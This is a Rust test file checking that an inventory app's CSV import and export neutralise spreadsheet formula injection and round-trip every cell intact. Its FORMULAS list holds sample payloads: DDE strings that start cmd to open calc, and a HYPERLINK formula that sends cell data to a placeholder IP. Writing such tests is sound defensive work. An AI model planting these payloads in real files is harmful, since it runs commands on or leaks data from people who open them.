//! T29: files that people open in a spreadsheet run nothing there, and say the
//! same when they come back.

use countertop::import::Kind;
use countertop::store::{Db, migrate};
use countertop::text::clean_line;

use super::harmless::is_plain;
use super::texts::{naughty, sharp};
use crate::import::{give, take};

/// What makes a formula of a cell, as East Asian keyboards write it too.
const RUN: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];

/// Cells that were seen to run something.
const FORMULAS: [&str; 20] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "=10+20+cmd|' /C calc'!A0",
    "DDE (\"cmd\";\"/C calc\";\"!A0\")A0",
    "=HYPERLINK(\"https://192.0.2.1/?\"&A1,\"Open\")",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\"=1+1\"",
    "=1+1\",\"=2",
    "=1+1\n=2+2",
    "\u{200b}=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
];

/// Plates that there are.
const PLATES: [&str; 4] = ["+715879", "-5512-A", "=1A2", "@X1"];

/// What is kept of a cell.
fn kept(cell: &str) -> String {
    clean_line(&cell.replace("\r\n", "\n"))
}

/// Whether it would run: an apostrophe before it is itself in need of one.
fn runs(cell: &str) -> bool {
    cell.trim_start_matches('\'').starts_with(RUN)
}

/// Every cell of an export, read by somebody else.
fn records(text: &str) -> Vec<Vec<String>> {
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let mut all: Vec<Vec<String>> = reader.records().map(|record| record.unwrap().iter().map(str::to_owned).collect()).collect();
    all.sort();
    all
}

/// A file of assets, one for each text; the first of them have a plate as well.
fn assets(texts: &[String]) -> String {
    let mut file = csv::Writer::from_writer(Vec::new());
    file.write_record(["organization", "asset_number", "plate", "description"]).unwrap();
    for (nth, text) in texts.iter().enumerate() {
        file.write_record(["KELLER", format!("H{nth}").as_str(), PLATES.get(nth).copied().unwrap_or_default(), text.as_str()]).unwrap();
    }
    String::from_utf8(file.into_inner().unwrap()).unwrap()
}

on_both_databases! {
    async fn t29_no_cell_runs_and_every_cell_comes_back(w: World) {
        // Files of people have no apostrophe of ours before a formula.
        let fits = |text: &String| !kept(text).is_empty() && kept(text).chars().count() <= 200 && !(text.starts_with('\'') && runs(text));
        let texts: Vec<String> = FORMULAS.map(str::to_owned).into_iter().chain(naughty().iter().cloned()).chain(sharp()).filter(fits).collect();
        assert!(texts.len() > 450, "{}", texts.len());
        let report = take(w.address(), Kind::Assets, &assets(&texts)).await.unwrap();
        assert_eq!((report.added, report.refused_count), (u64::try_from(texts.len()).unwrap(), 0), "{:?}", report.refused);

        let exported = give(&w.app.db, Kind::Assets).await;
        assert!(is_plain(&exported));
        let place = |name: &str| Kind::Assets.columns().iter().position(|column| *column == name).unwrap();
        let (number, description) = (place("asset_number"), place("description"));
        let rows = records(&exported);
        for row in &rows {
            assert!(row.iter().all(|cell| !cell.starts_with(RUN)), "{row:?}");
            let text = row[number].strip_prefix('H').and_then(|nth| texts.get(nth.parse::<usize>().ok()?));
            if let Some(text) = text {
                let kept = kept(text);
                let guarded = if runs(&kept) { format!("'{kept}") } else { kept };
                assert_eq!(row[description], guarded, "{text:?}");
            }
        }

        let folder = tempfile::tempdir().unwrap();
        let address = format!("sqlite://{}", folder.path().join("fresh.db").display());
        let fresh = Db::open(&address).await.unwrap();
        migrate::migrate(&fresh).await.unwrap();
        for kind in [Kind::Shops, Kind::Customers, Kind::Organizations, Kind::Assets] {
            let report = take(&address, kind, &give(&w.app.db, kind).await).await.unwrap();
            assert_eq!(report.refused_count, 0, "{kind}: {:?}", report.refused);
        }
        assert_eq!(records(&give(&fresh, Kind::Assets).await), rows);
        fresh.close().await;
        let admin = w.sign_in("admin").await;
        for (nth, plate) in PLATES.iter().enumerate() {
            let (_, found) = admin.find("/v1/assets/lookup", &[("tag", plate)]).await;
            let hits = found["items"].as_array().map(Vec::as_slice).unwrap_or_default();
            assert!(hits.iter().any(|hit| hit["asset"]["asset_number"] == format!("H{nth}") && hit["matched_by"] == "plate"), "{plate}: {found}");
        }
    }
}
